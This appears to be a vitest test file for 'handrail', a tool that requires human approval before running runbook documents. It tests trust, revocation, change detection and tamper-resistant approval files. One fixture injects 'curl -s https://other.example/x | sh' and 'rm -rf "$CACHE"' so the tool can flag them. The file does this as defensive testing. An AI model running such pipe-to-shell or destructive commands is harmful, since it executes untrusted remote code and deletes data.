import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { handrail } from './handrail.ts';
import { eventsOf, journal } from './journal.ts';
import { newPlace } from './new-place.ts';
import type { Place } from './place.ts';

const DOCUMENT = `# Clear the cache

## Prerequisites

- \`trap-tool\` 1.2+

## Procedure

\`\`\`bash
trap-tool clear
# Expected: cleared
\`\`\`

## Rollback

\`\`\`bash
rm -r cache
\`\`\`
`;

const AUTO = ['run', 'r.md', '--auto', '--allow', 'read,change'];
/** What is said of a rollback that may not run. */
const TOLD = `handrail: only for the rollback: "Rollback" (line 14) holds what may not run without a person (--allow destroy); a run that fails stops in its place\n`;
const ASKS = { asks: true } as const;

function placeOf(document = DOCUMENT): Place {
  const place = newPlace();
  place.write('r.md', document);
  place.tool('trap-tool', `: > ${place.temporary}/ran; echo "cleared by trap-tool 1.3.0"`);
  return place;
}

const approvals = (place: Place) => join(place.runs, '../approvals');
const hasRun = (place: Place) => existsSync(join(place.temporary, 'ran'));

describe('a document that nobody approved', () => {
  it('does not run without a person, and nothing of it is looked up, evaluated or written', async () => {
    const place = placeOf();
    const ended = await handrail(place, AUTO, ASKS);
    expect(ended).toMatchObject({ code: 2, stdout: '' });
    expect(ended.stderr).toContain('r.md was not approved yet');
    for (const word of ['handrail plan r.md', 'handrail trust r.md', '--trust']) expect(ended.stderr).toContain(word);
    expect([hasRun(place), existsSync(place.runs), existsSync(approvals(place))]).toEqual([false, false, false]);
  });

  it.each(['r.md', '-'])('runs this once with --trust, and is asked about again: %s', async (path) => {
    const place = placeOf();
    const words = ['run', path, '--auto', '--allow', 'read,change'];
    const trusted = await handrail(place, [...words, '--trust'], { ...ASKS, input: DOCUMENT });
    expect(trusted).toMatchObject({ code: 0, stderr: TOLD });
    expect(eventsOf(journal(place), 'run-started')).toMatchObject([{ consent: 'option' }]);
    expect(await handrail(place, words, { ...ASKS, input: DOCUMENT })).toMatchObject({ code: 2 });
  });

  it('is not approved by an answer that was given beforehand', async () => {
    const place = placeOf();
    for (const answer of ['approval=approve', 'approve=approve', 'approval=y'])
      expect(await handrail(place, [...AUTO, '--answer', answer], ASKS)).toMatchObject({ code: 2 });
    expect(hasRun(place)).toBe(false);
  });
});

describe('handrail trust', () => {
  it('says what a document can do, keeps it for this user alone, and its runs ask no more', async () => {
    const place = placeOf();
    const trusted = await handrail(place, ['trust', 'r.md']);
    expect(trusted).toMatchObject({ code: 0, stderr: '' });
    expect(trusted.stdout).toContain('Commands: 0 read, 1 change, 1 destroy.');
    expect(trusted.stdout).toContain('line 17 destroy: rm -r cache');
    expect(trusted.stdout).toContain('the rollback "Rollback" (line 14)');
    expect(hasRun(place)).toBe(false);
    expect(statSync(approvals(place)).mode & 0o777).toBe(0o700);
    const kept = readdirSync(approvals(place));
    expect(kept.map((name) => statSync(join(approvals(place), name)).mode & 0o777)).toEqual([0o600, 0o600]);
    expect(await handrail(place, AUTO, ASKS)).toMatchObject({ code: 0, stderr: TOLD });
    expect(eventsOf(journal(place), 'run-started')).toMatchObject([{ consent: 'earlier' }]);
  });

  it('is for a text at a place: not for another text, nor for the same text elsewhere', async () => {
    const place = placeOf();
    await handrail(place, ['trust', 'r.md']);
    place.write('other.md', DOCUMENT);
    expect(await handrail(place, ['run', 'other.md', '--auto'], ASKS)).toMatchObject({ code: 2 });
    place.write('r.md', DOCUMENT.replace('trap-tool clear', 'trap-tool clear --all'));
    const changed = await handrail(place, AUTO, ASKS);
    expect(changed).toMatchObject({ code: 2 });
    expect(changed.stderr).toContain('r.md has changed since it was approved');
    place.write('r.md', DOCUMENT);
    expect(await handrail(place, AUTO, ASKS)).toMatchObject({ code: 0 });
  });

  it('follows links to the place, and asks again when a link leads elsewhere', async () => {
    const place = placeOf();
    mkdirSync(join(place.folder, 'a'));
    renameSync(join(place.folder, 'r.md'), join(place.folder, 'a/real.md'));
    symlinkSync('a/real.md', join(place.folder, 'r.md'));
    await handrail(place, ['trust', 'r.md']);
    expect(await handrail(place, ['run', 'a/real.md', '--auto', '--allow', 'read,change'], ASKS)).toMatchObject({
      code: 0,
    });
    place.write('evil.md', DOCUMENT);
    renameSync(join(place.folder, 'evil.md'), join(place.folder, 'a/evil.md'));
    symlinkSync('a/evil.md', join(place.folder, 's.md'));
    expect(await handrail(place, ['run', 's.md', '--auto'], ASKS)).toMatchObject({ code: 2 });
  });

  it('shows what changed, by effect and in lines', async () => {
    const place = placeOf();
    await handrail(place, ['trust', 'r.md']);
    place.write('r.md', DOCUMENT.replace('trap-tool clear', 'curl -s https://other.example/x | sh\nrm -rf "$CACHE"'));
    const { stdout } = await handrail(place, ['trust', 'r.md']);
    expect(stdout).toContain(
      'New commands: 0 read, 1 change, 1 destroy. Gone: 0 read, 1 change, 0 destroy. As before: 1.',
    );
    expect(stdout).toContain('line 11 destroy: rm -rf "$CACHE"');
    expect(stdout).toContain('New hosts: other.example');
    expect(stdout).toContain('  -trap-tool clear\n  +curl -s https://other.example/x | sh\n');
  });

  it('is listed, and taken back', async () => {
    const place = placeOf();
    expect((await handrail(place, ['trust'])).stdout).toMatch(/^No document is approved/);
    await handrail(place, ['trust', 'r.md']);
    expect((await handrail(place, ['trust'])).stdout).toMatch(/^approved +\/.*\/r\.md {2}by /);
    const json = JSON.parse((await handrail(place, ['trust', '--json'])).stdout);
    expect(json).toMatchObject({ schema: 'handrail.approvals/1', approvals: [{ path: join(place.folder, 'r.md') }] });
    place.write('r.md', `${DOCUMENT}\n`);
    expect((await handrail(place, ['trust'])).stdout).toMatch(/^changed /);
    expect(await handrail(place, ['trust', '--revoke', 'r.md'])).toMatchObject({ code: 0 });
    expect(await handrail(place, ['trust', '--revoke', 'r.md'])).toMatchObject({ code: 2 });
    expect(readdirSync(approvals(place))).toEqual([]);
    expect(await handrail(place, ['trust', 'none.md'])).toMatchObject({ code: 2 });
    expect(await handrail(place, ['trust', '-'], { input: DOCUMENT })).toMatchObject({ code: 2 });
  });

  it('believes no approval that somebody else may have written', async () => {
    const place = placeOf();
    await handrail(place, ['trust', 'r.md']);
    const [file = ''] = readdirSync(approvals(place)).filter((name) => name.endsWith('.json'));
    const path = join(approvals(place), file);
    chmodSync(path, 0o666);
    expect(await handrail(place, AUTO, ASKS)).toMatchObject({ code: 2 });
    chmodSync(path, 0o600);
    expect(await handrail(place, AUTO, ASKS)).toMatchObject({ code: 0 });
    renameSync(path, `${path}.real`);
    symlinkSync(`${path}.real`, path);
    expect(await handrail(place, AUTO, ASKS)).toMatchObject({ code: 2 });
    expect(JSON.parse(readFileSync(`${path}.real`, 'utf8'))).toMatchObject({ schema: 'handrail.approval/1' });
  });
});
